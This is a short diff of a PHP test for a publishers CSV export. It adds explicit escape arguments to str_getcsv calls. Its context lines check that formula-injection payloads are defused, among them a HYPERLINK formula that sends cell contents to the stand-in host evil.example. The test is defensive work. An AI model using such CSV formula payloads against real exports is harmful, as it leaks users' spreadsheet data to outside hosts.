@@ -175,7 +175,7 @@ final class PublishersPageTest extends AddonTestCase
         $csv = $this->exportText(['q' => 'cmd']);
         self::assertStringNotContainsString(PublisherRows::PASSWORD, $this->exportText([]));
         self::assertStringNotContainsString($encrypted, $this->exportText([]));
-        $row = str_getcsv(explode("\n", trim($csv))[1]);
+        $row = str_getcsv(explode("\n", trim($csv))[1], ',', '"', '');
         self::assertSame(["'+cmd", "'=HYPERLINK(\"http://evil.example/?\"&A1)", (string) $client, "'@evil.example", '5', "'-2+3"], array_slice($row, 0, 6));
         self::assertSame("'\tx", $row[8]);
     }
@@ -242,7 +242,7 @@ final class PublishersPageTest extends AddonTestCase
     /** @return list<list<string>> the export's CSV rows */
     private function export(array $query): array
     {
-        return array_map('str_getcsv', explode("\n", trim($this->exportText($query))));
+        return array_map(static fn (string $line): array => str_getcsv($line, ',', '"', ''), explode("\n", trim($this->exportText($query))));
     }
 
     private function exportText(array $query): string
